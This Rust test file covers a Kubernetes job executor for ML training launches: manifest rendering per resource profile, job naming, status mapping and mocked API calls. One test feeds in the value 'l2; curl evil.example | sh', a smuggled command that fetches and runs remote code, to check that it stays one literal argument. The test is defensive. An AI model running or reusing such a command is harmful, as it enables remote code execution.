//! The Kubernetes executor without a cluster: Job manifests rendered from
//! k8s-openapi types, and every API call made through kube's real client
//! over a mock transport that answers as an API server does.

use std::collections::BTreeMap;
use std::path::Path;

use crate::support::mock_api::{self, Handle, body_json, respond, status};
use app::model::LaunchStatus;
use futures::StreamExt;
use http::{Method, Response, StatusCode};
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::Pod;
use kube::client::Body;
use serde_json::{Value, json};
use server::adapters::executor::kubernetes::{
    JobSettings, KubernetesExecutor, job_name, job_report, pod_report, render_job,
};
use server::adapters::executor::{Executor, StatusReport, TrainingJob};
use server::catalog::Catalog;

const NAMESPACE: &str = "ml";
const LAUNCH_ID: &str = "3f2a9c0d4b5e6f708192a3b4c5d6e7f8";
const RUN_ID: &str = "0123456789abcdef0123456789abcdef";

fn demo_catalog() -> Catalog {
    Catalog::load(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/demo/catalog.toml"),
        None,
    )
    .unwrap()
}

fn settings() -> JobSettings {
    JobSettings {
        namespace: NAMESPACE.into(),
        tracking_uri: "http://mlflow.ml.svc:5000".into(),
        ttl_seconds_after_finished: 3600,
        service_account: Some("training".into()),
        mlflow_secret: Some("mlflow-training".into()),
        git_image: "alpine/git:2.47.2".into(),
    }
}

fn training_job(catalog: &Catalog, profile: &str, argv: &[&str]) -> TrainingJob {
    let project = catalog.project("diabetes").unwrap();
    TrainingJob {
        launch_id: LAUNCH_ID.into(),
        run_id: RUN_ID.into(),
        experiment_id: "7".into(),
        project: project.name.clone(),
        entry_point: "main".into(),
        directory: project.directory.clone(),
        image: project.image.clone(),
        argv: argv.iter().map(|arg| arg.to_string()).collect(),
        profile: catalog.profile(profile).unwrap().clone(),
        python_env: None,
        git: None,
    }
}

/// The demo project's `main` entry point, through the same code the launcher uses.
fn main_argv(catalog: &Catalog, alpha: &str, l1_ratio: &str) -> Vec<String> {
    let entry = catalog
        .project("diabetes")
        .unwrap()
        .mlproject
        .entry_point("main")
        .unwrap();
    let submitted = BTreeMap::from([
        ("alpha".to_string(), alpha.to_string()),
        ("l1_ratio".to_string(), l1_ratio.to_string()),
    ]);
    entry.argv(&entry.resolve(&submitted).unwrap())
}

fn quantities(
    map: &Option<BTreeMap<String, k8s_openapi::apimachinery::pkg::api::resource::Quantity>>,
) -> BTreeMap<String, String> {
    map.iter()
        .flatten()
        .map(|(key, value)| (key.clone(), value.0.clone()))
        .collect()
}

fn strings(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(key, value)| (key.to_string(), value.to_string()))
        .collect()
}

#[test]
fn every_demo_profile_renders_its_resources_placement_and_limits() {
    let catalog = demo_catalog();
    let argv = main_argv(&catalog, "0.3", "0.7");
    assert_eq!(argv, ["python", "train.py", "0.3", "0.7"]);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();

    struct Expected {
        requests: BTreeMap<String, String>,
        limits: BTreeMap<String, String>,
        node_selector: Option<BTreeMap<String, String>>,
        tolerations: Vec<(
            Option<&'static str>,
            Option<&'static str>,
            Option<&'static str>,
        )>,
        priority_class: Option<&'static str>,
        deadline: i64,
    }
    let expectations = [
        (
            "cpu-small",
            Expected {
                requests: strings(&[("cpu", "500m"), ("memory", "1Gi")]),
                limits: strings(&[("cpu", "1"), ("memory", "2Gi")]),
                node_selector: None,
                tolerations: vec![],
                priority_class: None,
                deadline: 1800,
            },
        ),
        (
            "cpu-large",
            Expected {
                requests: strings(&[("cpu", "4"), ("memory", "16Gi")]),
                limits: strings(&[("cpu", "8"), ("memory", "32Gi")]),
                node_selector: Some(strings(&[("slipway.dev/pool", "batch")])),
                tolerations: vec![(
                    Some("slipway.dev/batch"),
                    Some("Exists"),
                    Some("NoSchedule"),
                )],
                priority_class: None,
                deadline: 14400,
            },
        ),
        (
            "gpu-1",
            Expected {
                requests: strings(&[("cpu", "4"), ("memory", "24Gi"), ("nvidia.com/gpu", "1")]),
                limits: strings(&[("cpu", "8"), ("memory", "48Gi"), ("nvidia.com/gpu", "1")]),
                node_selector: Some(strings(&[("nvidia.com/gpu.present", "true")])),
                tolerations: vec![(Some("nvidia.com/gpu"), Some("Exists"), Some("NoSchedule"))],
                priority_class: Some("training"),
                deadline: 86400,
            },
        ),
    ];
    assert_eq!(
        expectations.len(),
        catalog.profiles.len(),
        "a profile without expectations"
    );
    for (profile, expected) in expectations {
        let job = render_job(&training_job(&catalog, profile, &argv), &settings()).unwrap();
        let metadata = &job.metadata;
        assert_eq!(
            metadata.name.as_deref(),
            Some("diabetes-3f2a9c0d4b5e"),
            "{profile}"
        );
        assert_eq!(metadata.namespace.as_deref(), Some(NAMESPACE));
        let labels = metadata.labels.clone().unwrap();
        assert_eq!(labels["app.kubernetes.io/managed-by"], "slipway");
        assert_eq!(labels["slipway.dev/launch-id"], LAUNCH_ID);
        assert_eq!(labels["slipway.dev/run-id"], RUN_ID);
        assert_eq!(labels["slipway.dev/profile"], profile);
        let spec = job.spec.as_ref().unwrap();
        assert_eq!(spec.backoff_limit, Some(0));
        assert_eq!(spec.ttl_seconds_after_finished, Some(3600));
        assert_eq!(
            spec.active_deadline_seconds,
            Some(expected.deadline),
            "{profile}"
        );
        let template = &spec.template;
        assert_eq!(
            template.metadata.as_ref().unwrap().labels.as_ref(),
            Some(&labels),
            "pods carry the same labels"
        );
        let pod = template.spec.as_ref().unwrap();
        assert_eq!(pod.restart_policy.as_deref(), Some("Never"));
        assert_eq!(pod.service_account_name.as_deref(), Some("training"));
        assert_eq!(pod.node_selector, expected.node_selector, "{profile}");
        let tolerations: Vec<_> = pod
            .tolerations
            .iter()
            .flatten()
            .map(|t| (t.key.clone(), t.operator.clone(), t.effect.clone()))
            .collect();
        let expected_tolerations: Vec<_> = expected
            .tolerations
            .iter()
            .map(|(k, o, e)| {
                (
                    k.map(String::from),
                    o.map(String::from),
                    e.map(String::from),
                )
            })
            .collect();
        assert_eq!(tolerations, expected_tolerations, "{profile}");
        assert_eq!(
            pod.priority_class_name.as_deref(),
            expected.priority_class,
            "{profile}"
        );
        assert_eq!(pod.containers.len(), 1);
        let container = &pod.containers[0];
        assert_eq!(
            container.image.as_deref(),
            Some("registry.example.com/slipway/diabetes:1.0")
        );
        assert_eq!(
            container.command.as_deref(),
            Some(&["python", "train.py", "0.3", "0.7"].map(String::from)[..])
        );
        assert_eq!(
            container.args, None,
            "the argv is the whole command; no shell, no entrypoint args"
        );
        // Values as values; credentials by reference to the Secret's keys.
        let env: BTreeMap<_, _> = container
            .env
            .iter()
            .flatten()
            .map(|var| {
                let value = match (&var.value, &var.value_from) {
                    (Some(value), None) => value.clone(),
                    (None, Some(source)) => {
                        let secret = source.secret_key_ref.as_ref().unwrap();
                        assert_eq!(secret.optional, Some(true));
                        format!("secret {}/{}", secret.name, secret.key)
                    }
                    other => panic!("{}: {other:?}", var.name),
                };
                (var.name.clone(), value)
            })
            .collect();
        assert_eq!(
            env,
            strings(&[
                ("MLFLOW_TRACKING_URI", "http://mlflow.ml.svc:5000"),
                ("MLFLOW_RUN_ID", RUN_ID),
                ("MLFLOW_EXPERIMENT_ID", "7"),
                (
                    "MLFLOW_TRACKING_USERNAME",
                    "secret mlflow-training/MLFLOW_TRACKING_USERNAME"
                ),
                (
                    "MLFLOW_TRACKING_PASSWORD",
                    "secret mlflow-training/MLFLOW_TRACKING_PASSWORD"
                ),
                (
                    "MLFLOW_TRACKING_TOKEN",
                    "secret mlflow-training/MLFLOW_TRACKING_TOKEN"
                ),
            ])
        );
        let resources = container.resources.as_ref().unwrap();
        assert_eq!(
            quantities(&resources.requests),
            expected.requests,
            "{profile}"
        );
        assert_eq!(quantities(&resources.limits), expected.limits, "{profile}");

        // What goes over the wire is a batch/v1 Job.
        let wire = serde_json::to_value(&job).unwrap();
        assert_eq!(wire["apiVersion"], "batch/v1");
        assert_eq!(wire["kind"], "Job");
        assert_eq!(
            wire["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["cpu"],
            expected.limits["cpu"]
        );
    }
}

#[test]
fn an_injection_attempt_stays_one_literal_argument_in_the_job() {
    let catalog = demo_catalog();
    let entry = catalog
        .project("diabetes")
        .unwrap()
        .mlproject
        .entry_point("sgd")
        .unwrap();
    let hostile = "l2; curl evil.example | sh";
    let values = entry
        .resolve(&BTreeMap::from([(
            "penalty".to_string(),
            hostile.to_string(),
        )]))
        .unwrap();
    let argv = entry.argv(&values);
    let job = render_job(
        &training_job(
            &catalog,
            "cpu-small",
            &argv.iter().map(String::as_str).collect::<Vec<_>>(),
        ),
        &settings(),
    )
    .unwrap();
    let command = job.spec.unwrap().template.spec.unwrap().containers[0]
        .command
        .clone()
        .unwrap();
    assert_eq!(
        command,
        [
            "python",
            "train_sgd.py",
            "--epochs",
            "20",
            "--eta0",
            "0.01",
            "--penalty",
            hostile
        ]
        .map(String::from)
    );
}

#[test]
fn job_names_are_dns_labels_whatever_the_project_is_called() {
    for project in [
        "diabetes",
        "My_Project.v2",
        "--x--",
        "ÜBER",
        &"long".repeat(30),
        "",
    ] {
        let name = job_name(project, LAUNCH_ID);
        assert!(
            server::catalog::is_dns_label(&name),
            "{project:?} → {name:?}"
        );
        // Pod names add a suffix to the Job's; 63 must still hold.
        assert!(name.len() <= 53, "{name}");
    }
    assert_eq!(
        job_name("My_Project.v2", LAUNCH_ID),
        "my-project-v2-3f2a9c0d4b5e"
    );
}

fn pod(value: Value) -> Pod {
    serde_json::from_value(value).unwrap()
}

fn pod_json(status: Value) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "diabetes-3f2a9c0d4b5e-x7k2p",
            "namespace": NAMESPACE,
            "resourceVersion": "101",
            "labels": {"slipway.dev/launch-id": LAUNCH_ID, "app.kubernetes.io/managed-by": "slipway"}
        },
        "spec": {"containers": [{"name": "training", "image": "img"}]},
        "status": status
    })
}

fn job_json(conditions: Value) -> Value {
    json!({
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {
            "name": "diabetes-3f2a9c0d4b5e",
            "namespace": NAMESPACE,
            "resourceVersion": "100",
            "labels": {"slipway.dev/launch-id": LAUNCH_ID, "app.kubernetes.io/managed-by": "slipway"}
        },
        "spec": {"template": {"spec": {"containers": [{"name": "training", "image": "img"}]}}},
        "status": {"conditions": conditions}
    })
}

fn report(status: LaunchStatus, reason: &str) -> Option<StatusReport> {
    Some(StatusReport {
        launch_id: LAUNCH_ID.into(),
        status,
        reason: reason.into(),
    })
}

#[test]
fn pod_and_job_states_map_to_launch_status_with_kubernetes_reasons() {
    let unschedulable = pod(pod_json(json!({
        "phase": "Pending",
        "conditions": [{"type": "PodScheduled", "status": "False", "reason": "Unschedulable",
                        "message": "0/3 nodes are available: 3 Insufficient nvidia.com/gpu."}]
    })));
    assert_eq!(
        pod_report(&unschedulable),
        report(
            LaunchStatus::Pending,
            "Unschedulable: 0/3 nodes are available: 3 Insufficient nvidia.com/gpu."
        )
    );
    let image_pull = pod(pod_json(json!({
        "phase": "Pending",
        "containerStatuses": [{"name": "training", "image": "img", "imageID": "", "ready": false, "restartCount": 0,
            "state": {"waiting": {"reason": "ImagePullBackOff", "message": "Back-off pulling image \"img\""}}}]
    })));
    assert_eq!(
        pod_report(&image_pull),
        report(
            LaunchStatus::Pending,
            "ImagePullBackOff: Back-off pulling image \"img\""
        )
    );
    let running = pod(pod_json(json!({
        "phase": "Running",
        "containerStatuses": [{"name": "training", "image": "img", "imageID": "", "ready": true, "restartCount": 0,
            "state": {"running": {"startedAt": "2026-11-26T09:00:00Z"}}}]
    })));
    assert_eq!(pod_report(&running), report(LaunchStatus::Running, ""));
    let oom = pod(pod_json(json!({
        "phase": "Failed",
        "containerStatuses": [{"name": "training", "image": "img", "imageID": "", "ready": false, "restartCount": 0,
            "state": {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}}]
    })));
    assert_eq!(
        pod_report(&oom),
        report(
            LaunchStatus::Failed,
            "OOMKilled: the training exited with code 137"
        )
    );

    let job = |conditions| serde_json::from_value::<Job>(job_json(conditions)).unwrap();
    assert_eq!(
        job_report(&job(json!([]))),
        None,
        "a running Job says nothing the pod does not"
    );
    assert_eq!(
        job_report(&job(json!([{"type": "Complete", "status": "True"}]))),
        report(LaunchStatus::Succeeded, "Job complete")
    );
    assert_eq!(
        job_report(&job(
            json!([{"type": "Failed", "status": "True", "reason": "DeadlineExceeded",
                                   "message": "Job was active longer than specified deadline"}])
        )),
        report(
            LaunchStatus::Failed,
            "DeadlineExceeded: Job was active longer than specified deadline"
        )
    );
}

fn mock_executor() -> (KubernetesExecutor, Handle) {
    let (client, handle) = mock_api::client(NAMESPACE);
    (KubernetesExecutor::new(client, settings()), handle)
}

#[tokio::test]
async fn creating_the_job_posts_it_and_explains_each_refusal() {
    let catalog = demo_catalog();
    let argv = main_argv(&catalog, "0.5", "0.1");
    let job = training_job(
        &catalog,
        "gpu-1",
        &argv.iter().map(String::as_str).collect::<Vec<_>>(),
    );

    let answers = [
        (StatusCode::CREATED, None),
        (
            StatusCode::CONFLICT,
            Some((
                "AlreadyExists",
                "jobs.batch \"diabetes-3f2a9c0d4b5e\" already exists",
                "it already exists",
            )),
        ),
        (
            StatusCode::FORBIDDEN,
            Some((
                "Forbidden",
                "jobs.batch is forbidden: User \"system:serviceaccount:ml:slipway\" cannot create resource \"jobs\" in API group \"batch\" in the namespace \"ml\"",
                "not allowed to create the training Job",
            )),
        ),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some((
                "Invalid",
                "Job.batch \"diabetes-3f2a9c0d4b5e\" is invalid: spec.template.spec.containers[0].resources.requests: Invalid value: \"2\": must be equal to nvidia.com/gpu limit",
                "refused to create the training Job as invalid",
            )),
        ),
    ];
    for (code, refusal) in answers {
        let (executor, mut handle) = mock_executor();
        let job = job.clone();
        let started = tokio::spawn(async move { executor.start(&job).await });
        let (request, send) = handle.next_request().await.expect("a request");
        assert_eq!(request.method(), Method::POST);
        assert_eq!(request.uri().path(), "/apis/batch/v1/namespaces/ml/jobs");
        let sent = body_json(request).await;
        assert_eq!(sent["kind"], "Job");
        assert_eq!(
            sent["spec"]["template"]["spec"]["containers"][0]["command"],
            json!(["python", "train.py", "0.5", "0.1"])
        );
        assert_eq!(
            sent["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]["nvidia.com/gpu"],
            "1"
        );
        match refusal {
            None => {
                let mut created = sent.clone();
                created["metadata"]["uid"] = json!("6b1f");
                created["metadata"]["resourceVersion"] = json!("1");
                send.send_response(respond(code, created));
                assert_eq!(started.await.unwrap().unwrap(), "diabetes-3f2a9c0d4b5e");
            }
            Some((reason, message, explained)) => {
                send.send_response(respond(code, status(code.as_u16(), reason, message)));
                let err = started.await.unwrap().unwrap_err().to_string();
                assert!(err.contains(explained), "{code}: {err}");
                assert!(
                    err.contains(message),
                    "the API server's words are kept: {err}"
                );
            }
        }
    }
}

#[tokio::test]
async fn cancel_deletes_the_job_in_the_background_and_a_missing_job_is_no_error() {
    for (code, body) in [
        (StatusCode::OK, status(200, "", "")),
        (
            StatusCode::NOT_FOUND,
            status(
                404,
                "NotFound",
                "jobs.batch \"diabetes-3f2a9c0d4b5e\" not found",
            ),
        ),
    ] {
        let (executor, mut handle) = mock_executor();
        let cancelled =
            tokio::spawn(async move { executor.cancel(LAUNCH_ID, "diabetes-3f2a9c0d4b5e").await });
        let (request, send) = handle.next_request().await.unwrap();
        assert_eq!(request.method(), Method::DELETE);
        assert_eq!(
            request.uri().path(),
            "/apis/batch/v1/namespaces/ml/jobs/diabetes-3f2a9c0d4b5e"
        );
        assert_eq!(body_json(request).await["propagationPolicy"], "Background");
        let mut answer = body.clone();
        if code == StatusCode::OK {
            answer = job_json(json!([]));
        }
        send.send_response(respond(code, answer));
        cancelled.await.unwrap().unwrap();
    }

    let (executor, mut handle) = mock_executor();
    let cancelled =
        tokio::spawn(async move { executor.cancel(LAUNCH_ID, "diabetes-3f2a9c0d4b5e").await });
    let (_, send) = handle.next_request().await.unwrap();
    send.send_response(respond(
        StatusCode::FORBIDDEN,
        status(403, "Forbidden", "cannot delete resource \"jobs\""),
    ));
    let err = cancelled.await.unwrap().unwrap_err().to_string();
    assert!(
        err.contains("not allowed to delete the training Job"),
        "{err}"
    );
}

#[tokio::test]
async fn logs_come_from_the_launchs_pod_followed() {
    let (executor, mut handle) = mock_executor();
    let lines = tokio::spawn(async move {
        let stream = executor
            .logs(LAUNCH_ID, "diabetes-3f2a9c0d4b5e")
            .await
            .unwrap();
        stream.map(Result::unwrap).collect::<Vec<_>>().await
    });
    let (request, send) = handle.next_request().await.unwrap();
    assert_eq!(request.uri().path(), "/api/v1/namespaces/ml/pods");
    let query = request.uri().query().unwrap().to_string();
    assert!(
        query.contains("labelSelector=slipway.dev%2Flaunch-id%3D3f2a9c0d4b5e6f708192a3b4c5d6e7f8"),
        "{query}"
    );
    let running = pod_json(json!({"phase": "Running"}));
    send.send_response(respond(StatusCode::OK, json!({
        "apiVersion": "v1", "kind": "PodList", "metadata": {"resourceVersion": "120"}, "items": [running]
    })));
    let (request, send) = handle.next_request().await.unwrap();
    assert_eq!(
        request.uri().path(),
        "/api/v1/namespaces/ml/pods/diabetes-3f2a9c0d4b5e-x7k2p/log"
    );
    let query = request.uri().query().unwrap();
    assert!(
        query.contains("follow=true") && query.contains("container=training"),
        "{query}"
    );
    send.send_response(
        Response::builder()
            .status(200)
            .body(Body::from(
                b"epoch 1/2: rmse=60.1\nepoch 2/2: rmse=55.0\n".to_vec(),
            ))
            .unwrap(),
    );
    assert_eq!(
        lines.await.unwrap(),
        ["epoch 1/2: rmse=60.1\n", "epoch 2/2: rmse=55.0\n"]
    );
}
